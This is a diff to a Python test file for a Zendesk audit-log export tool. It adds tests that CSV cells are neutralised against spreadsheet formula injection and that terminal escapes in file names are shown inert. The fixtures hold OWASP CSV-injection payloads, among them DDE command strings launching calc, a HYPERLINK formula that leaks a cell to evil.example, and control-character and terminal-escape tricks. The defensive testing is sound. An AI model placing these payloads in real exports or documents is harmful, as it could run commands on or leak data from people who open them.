@@ -4,10 +4,14 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
+import shutil
+import subprocess
 from collections.abc import Iterator
 from datetime import datetime, timezone
 from pathlib import Path
 from typing import Any
+from xml.etree import ElementTree
 
 import click
 import duckdb
@@ -29,15 +33,42 @@ FORMULAS = {
     "change_description": "+cmd|' /C calc'!A0",
     "action_label": "-2+3",
 }
+# OWASP's CSV-injection cases (formula, DDE, and the tab and CR that hide them) and the escapes
+# that defeated the `'` prefix: a CR that starts a new row, a NUL that LibreOffice drops before
+# running the `=` behind it, leading blanks and invisible characters, a quote and a delimiter.
+OWASP_PAYLOADS = [
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Error: click for details")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "Ticket\r=1+1",
+    "Ticket\n=1+1",
+    "Ticket\r\n@SUM(1+1)",
+    "\x00=1+1",
+    "\x00\x00+1+1",
+    " =1+1",
+    "\u200b=1+1",
+    "\u202e=1+1",
+    '=1+1,"=2+2"',
+    "\x1b[2J\x1b]0;pwned\x07=1+1",
+    "\uff1d1+1",
+]
+PAYLOAD_FIRST_ID = 6_199_000_000_010
 
 
 @pytest.fixture(scope="module")
 def loaded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
-    """2,000 sandbox records plus one record full of formulas, loaded and modelled."""
+    """2,000 sandbox records plus records full of formulas (`FORMULAS`, `OWASP_PAYLOADS`), loaded and modelled."""
     path = tmp_path_factory.mktemp("evidence") / "zendesk.duckdb"
     with Sandbox(records=2_000, seed=7) as sandbox:
         sandbox.append(1, created_at=datetime(2026, 4, 2, 10, 0, tzinfo=timezone.utc), id=6_199_000_000_001,
                        source_type="rule", **FORMULAS)
+        for offset, payload in enumerate(OWASP_PAYLOADS):
+            sandbox.append(1, created_at=datetime(2026, 4, 2, 11, offset, tzinfo=timezone.utc), id=PAYLOAD_FIRST_ID + offset,
+                           source_type="rule", source_label=payload, actor_name=payload, change_description=payload)
         load_sandbox(sandbox, path)
     build_models(create_pipeline("duckdb", "zendesk_audit", duckdb_path=str(path)))
     yield path
@@ -143,6 +174,21 @@ def test_verify_reports_one_line_per_problem(loaded: Path, tmp_path: Path) -> No
     assert "manifest.json: SHA-256 is" in result.output and "SHA256SUMS: manifest.json" in result.output
 
 
+def test_verify_quotes_a_hostile_manifest_and_file_names_inert(loaded: Path, tmp_path: Path) -> None:
+    out = tmp_path / "evidence"
+    assert export(loaded, out).exit_code == 0
+    manifest = json.loads((out / "manifest.json").read_text())
+    manifest["files"][0]["path"] = "records/\x1b]0;pwned\x07\x1b[2J.csv"
+    manifest["files"][1]["sha256"] = "\u202e\r\x1b[1A ok"
+    (out / "manifest.json").write_text(json.dumps(manifest))
+    (out / "models" / "added\x1b[2J\u202e.txt").write_text("added later\n")
+    result = run("evidence", "verify", str(out))
+    assert result.exit_code == 1
+    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e]", result.output), repr(result.output)
+    assert "records/\\x1b]0;pwned\\x07\\x1b[2J.csv: missing" in result.output
+    assert "models/added\\x1b[2J<U+202E>.txt: not in the manifest" in result.output
+
+
 def test_csv_cells_a_spreadsheet_would_run_are_neutralised(loaded: Path, tmp_path: Path) -> None:
     out = tmp_path / "evidence"
     assert export(loaded, out).exit_code == 0
@@ -155,13 +201,18 @@ def test_csv_cells_a_spreadsheet_would_run_are_neutralised(loaded: Path, tmp_pat
     table = pq.read_table(out / "records" / "audit_logs.parquet").to_pylist()
     record = next(item for item in table if item["id"] == 6_199_000_000_001)
     assert record["source_label"] == FORMULAS["source_label"]
-    # No cell of any CSV of the export starts with a formula character.
+    # No cell of any CSV of the export starts with a formula character, even after blanks.
     for path in out.rglob("*.csv"):
         with open(path, newline="", encoding="utf-8") as handle:
             for line in csv.reader(handle):
                 for cell in line:
-                    assert not cell.startswith(("=", "+", "@", "\t", "\r")), (path, cell)
-                    assert not cell.startswith("-") or _is_number(cell), (path, cell)
+                    assert not _runs_as_formula(cell), (path, cell)
+
+
+def _runs_as_formula(cell: str) -> bool:
+    """What a spreadsheet could run: a formula character first, also after blanks, NULs or invisibles."""
+    start = cell.lstrip("".join(chr(code) for code in range(33)) + "\u200b\u202e\ufeff \u00a0")
+    return start.startswith(("=", "+", "@", "\uff1d")) or (start.startswith("-") and not _is_number(start))
 
 
 def _is_number(text: str) -> bool:
@@ -175,7 +226,8 @@ def _is_number(text: str) -> bool:
 @pytest.mark.parametrize(
     ("value", "expected"),
     [("=1+1", "'=1+1"), ("+1", "'+1"), ("-x", "'-x"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
-     ("plain", "plain"), ("", ""), ("a=b", "a=b"), ("'quoted", "'quoted")],
+     ("plain", "plain"), ("", ""), ("a=b", "a=b"), ("'quoted", "'quoted"), (" =1+1", "' =1+1"),
+     ("\x00=1+1", "'\x00=1+1"), ("\u200b@A1", "'\u200b@A1"), ("\u3000+1", "'\u3000+1"), ("\uff1d1+1", "'\uff1d1+1")],
 )
 def test_neutralise(value: str, expected: str) -> None:
     assert neutralise(value) == expected
@@ -185,8 +237,93 @@ def test_csv_cell_keeps_numbers_and_writes_utc_times() -> None:
     assert csv_cell(-1) == "-1" and csv_cell(None) == "" and csv_cell(True) == "true"
     assert csv_cell(datetime(2026, 1, 2, 3, 4, 5, tzinfo=timezone.utc)) == "2026-01-02T03:04:05Z"
     buffer = io.StringIO()
-    assert write_csv(buffer, ["=header", "b"], [("=x", "multi\nline")]) == 1
-    assert buffer.getvalue() == "'=header,b\n'=x,\"multi\nline\"\n"
+    assert write_csv(buffer, ["=header", "b"], [("=x", "multi\nline"), (-1, None)]) == 2
+    assert buffer.getvalue() == '"\'=header","b"\r\n"\'=x","multi\\nline"\r\n"-1",""\r\n'
+
+
+def test_every_csv_row_is_one_quoted_crlf_line_whatever_the_cells_hold() -> None:
+    """Controls escaped before neutralising: no payload of OWASP's list splits a row or runs."""
+    buffer = io.StringIO()
+    assert write_csv(buffer, ["id", "payload"], [(index, payload) for index, payload in enumerate(OWASP_PAYLOADS)]) \
+        == len(OWASP_PAYLOADS)
+    text = buffer.getvalue()
+    lines = text.split("\r\n")
+    assert lines[-1] == "" and len(lines) == len(OWASP_PAYLOADS) + 2
+    assert all(line.startswith('"') and line.endswith('"') for line in lines[:-1])
+    assert not any(ord(char) < 32 or 0x7F <= ord(char) <= 0x9F for line in lines for char in line)
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    assert len(rows) == len(OWASP_PAYLOADS) + 1 and all(len(row) == 2 for row in rows)
+    for (_, cell), payload in zip(rows[1:], OWASP_PAYLOADS):
+        assert not _runs_as_formula(cell), (payload, cell)
+    assert rows[OWASP_PAYLOADS.index("Ticket\r=1+1") + 1][1] == "Ticket\\r=1+1"
+    assert rows[OWASP_PAYLOADS.index("\x00=1+1") + 1][1] == "\\x00=1+1"
+    assert rows[OWASP_PAYLOADS.index("\u202e=1+1") + 1][1] == "'\u202e=1+1"
+
+
+def test_an_export_with_hostile_cells_verifies_and_keeps_one_line_per_row(loaded: Path, tmp_path: Path) -> None:
+    out = tmp_path / "evidence"
+    assert export(loaded, out).exit_code == 0
+    verified = run("evidence", "verify", str(out))
+    assert verified.exit_code == 0, verified.output
+    manifest = json.loads((out / "manifest.json").read_text())
+    for entry in manifest["files"]:
+        if entry["format"] == "csv":
+            data = (out / entry["path"]).read_bytes()
+            assert data.count(b"\r\n") == entry["rows"] + 1 and data.count(b"\n") == data.count(b"\r"), entry["path"]
+    with open(out / "records" / "audit_logs.csv", newline="", encoding="utf-8") as handle:
+        rows = {row["id"]: row for row in csv.DictReader(handle)}
+    parquet = {item["id"]: item for item in pq.read_table(out / "records" / "audit_logs.parquet").to_pylist()}
+    for offset, payload in enumerate(OWASP_PAYLOADS):
+        row = rows[str(PAYLOAD_FIRST_ID + offset)]
+        assert row["actor_name"] == row["source_label"] == row["change_description"] == csv_cell(payload)
+        assert parquet[PAYLOAD_FIRST_ID + offset]["actor_name"] == payload  # Parquet: the exact text
+
+
+SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
+ODF_TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
+ODF_TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"
+
+
+def libreoffice_sheet(csv_path: Path, folder: Path) -> list[list[tuple[str, str | None]]]:
+    """The CSV as LibreOffice Calc imports it by default (UTF-8, comma, formulas evaluated): per row,
+    each cell's shown text and its formula (None when the cell is not a formula). Rows with no text
+    are left out."""
+    assert SOFFICE
+    folder.mkdir()
+    subprocess.run(
+        [SOFFICE, f"-env:UserInstallation={(folder / 'profile').as_uri()}", "--headless", "--norestore",
+         "--infilter=CSV:44,34,76,1", "--convert-to", "fods", "--outdir", str(folder), str(csv_path)],
+        check=True, capture_output=True, timeout=300,
+    )
+    root = ElementTree.parse(folder / f"{csv_path.stem}.fods").getroot()
+    sheet = []
+    for row in root.iter(f"{ODF_TABLE}table-row"):
+        cells: list[tuple[str, str | None]] = []
+        for cell in row.findall(f"{ODF_TABLE}table-cell"):
+            text = "\n".join("".join(paragraph.itertext()) for paragraph in cell.findall(f"{ODF_TEXT}p"))
+            repeat = int(cell.get(f"{ODF_TABLE}number-columns-repeated", "1"))
+            cells += [(text, cell.get(f"{ODF_TABLE}formula"))] * min(repeat, 64)
+        if any(text for text, _ in cells):
+            sheet.append(cells)
+    return sheet
+
+
+@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not installed: apt-get install --no-install-recommends "
+                    "libreoffice-calc-nogui to open the export in a real spreadsheet")
+def test_libreoffice_opens_the_export_without_a_formula_or_a_forged_row(loaded: Path, tmp_path: Path) -> None:
+    out = tmp_path / "evidence"
+    assert export(loaded, out).exit_code == 0
+    manifest = {entry["path"]: entry for entry in json.loads((out / "manifest.json").read_text())["files"]}
+    sheet = libreoffice_sheet(out / "records" / "audit_logs.csv", tmp_path / "calc")
+    formulas = [(text, formula) for row in sheet for text, formula in row if formula]
+    assert formulas == []
+    assert len(sheet) == manifest["records/audit_logs.csv"]["rows"] + 1
+    header = [text for text, _ in sheet[0]]
+    shown = {row[header.index("id")][0]: row for row in sheet[1:]}
+    for offset, payload in enumerate(OWASP_PAYLOADS):
+        row = shown[str(PAYLOAD_FIRST_ID + offset)]
+        for column in ("actor_name", "source_label", "change_description"):
+            assert row[header.index(column)][0] == csv_cell(payload), (column, payload)
 
 
 def test_subdomain_filter_and_usage_errors(loaded: Path, tmp_path: Path) -> None:
